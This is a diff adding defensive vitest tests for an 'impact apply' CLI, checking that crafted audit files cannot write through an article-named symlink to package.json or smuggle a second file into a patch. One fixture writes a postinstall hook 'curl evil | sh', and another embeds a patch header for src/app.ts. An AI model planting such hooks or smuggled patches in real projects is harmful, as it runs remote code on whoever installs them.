@@ -1,0 +1,81 @@
+import { readdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { main } from "../cli/main.js";
+import type { Audit } from "../shared/audit.js";
+import { contentHash } from "../shared/hash.js";
+import { createFilePatch } from "../shared/patch.js";
+import { auditArticle, auditOf } from "./helpers/audit-fixture.js";
+import { gitRepo } from "./helpers/git-repo.js";
+import { captureIo } from "./helpers/io.js";
+
+// Red-team items 10 and 12: a crafted audit must not write files that are not articles.
+
+function writeAudit(dir: string, audit: Audit, name = "audit.json"): string {
+  const path = join(dir, name);
+  writeFileSync(path, JSON.stringify(audit));
+  return path;
+}
+
+/** An updated-article entry whose patch turns `before` into `after` at `path`. */
+function edited(path: string, before: string, after: string, patch = createFilePatch(path, before, after)) {
+  return auditArticle(path, { patch, hashBefore: contentHash(before), hashAfter: contentHash(after) });
+}
+
+describe("impact apply with a crafted audit", () => {
+  it("refuses an article-named symlink to a file that is not an article (docs/pkg.md -> ../package.json)", async () => {
+    const pkg = '{ "name": "x", "scripts": {} }\n';
+    const repo = gitRepo({ "package.json": pkg, "docs/a.md": "# A\n" });
+    symlinkSync("../package.json", join(repo.dir, "docs/pkg.md"));
+    const owned = '{ "name": "x", "scripts": { "postinstall": "curl evil | sh" } }\n';
+    const io = captureIo(repo.dir);
+    expect(
+      await main(["apply", writeAudit(repo.dir, auditOf([edited("docs/pkg.md", pkg, owned)]))], io),
+    ).toBe(2);
+    expect(io.err).toBe(
+      "impact apply: refusing to apply, nothing was written: docs/pkg.md: refused, it is a symlink (or under one) to package.json, which is not an article\n",
+    );
+    expect(readFileSync(join(repo.dir, "package.json"), "utf8")).toBe(pkg);
+  });
+
+  it("refuses a patch whose file headers name another file, in apply and in merge", async () => {
+    const doc = "# A\n\nOld.\n";
+    const repo = gitRepo({ "docs/a.md": doc, "src/app.ts": "export const a = 1;\n" });
+    const smuggled = `${createFilePatch("docs/a.md", doc, "# A\n\nNew.\n")}${createFilePatch("src/app.ts", "export const a = 1;\n", "export const a = 666;\n")}`;
+    const audit = auditOf([edited("docs/a.md", doc, "# A\n\nNew.\n", smuggled)]);
+    const applied = captureIo(repo.dir);
+    expect(await main(["apply", writeAudit(repo.dir, audit)], applied)).toBe(2);
+    expect(applied.err).toMatch(
+      /docs\/a\.md: refused, its patch has a file header for another file \("diff --git a\/src\/app\.ts/,
+    );
+    const merged = captureIo(repo.dir);
+    const args = [
+      "merge",
+      writeAudit(repo.dir, audit),
+      "--out",
+      join(repo.dir, "merged.json"),
+      "--patch",
+      join(repo.dir, "all.patch"),
+    ];
+    expect(await main(args, merged)).toBe(2);
+    expect(merged.err).toMatch(/^impact merge: docs\/a\.md: its patch has a file header for another file/);
+    expect(readFileSync(join(repo.dir, "src/app.ts"), "utf8")).toBe("export const a = 1;\n");
+  });
+
+  it("sweeps the stale temp files a killed apply left in the docs folder, and keeps fresh ones", async () => {
+    const doc = "# A\n\nOld.\n";
+    const repo = gitRepo({ "docs/a.md": doc });
+    const stale = join(repo.dir, "docs", ".a.md.impact-0123456789ab.tmp");
+    const fresh = join(repo.dir, "docs", ".a.md.impact-ba9876543210.tmp");
+    writeFileSync(stale, "half written");
+    writeFileSync(fresh, "being written by another apply");
+    const anHourAgo = new Date(Date.now() - 60 * 60 * 1000);
+    utimesSync(stale, anHourAgo, anHourAgo);
+    const io = captureIo(repo.dir);
+    expect(
+      await main(["apply", writeAudit(repo.dir, auditOf([edited("docs/a.md", doc, "# A\n\nNew.\n")]))], io),
+    ).toBe(0);
+    expect(readFileSync(join(repo.dir, "docs/a.md"), "utf8")).toBe("# A\n\nNew.\n");
+    expect(readdirSync(join(repo.dir, "docs")).sort()).toEqual([".a.md.impact-ba9876543210.tmp", "a.md"]);
+  });
+});
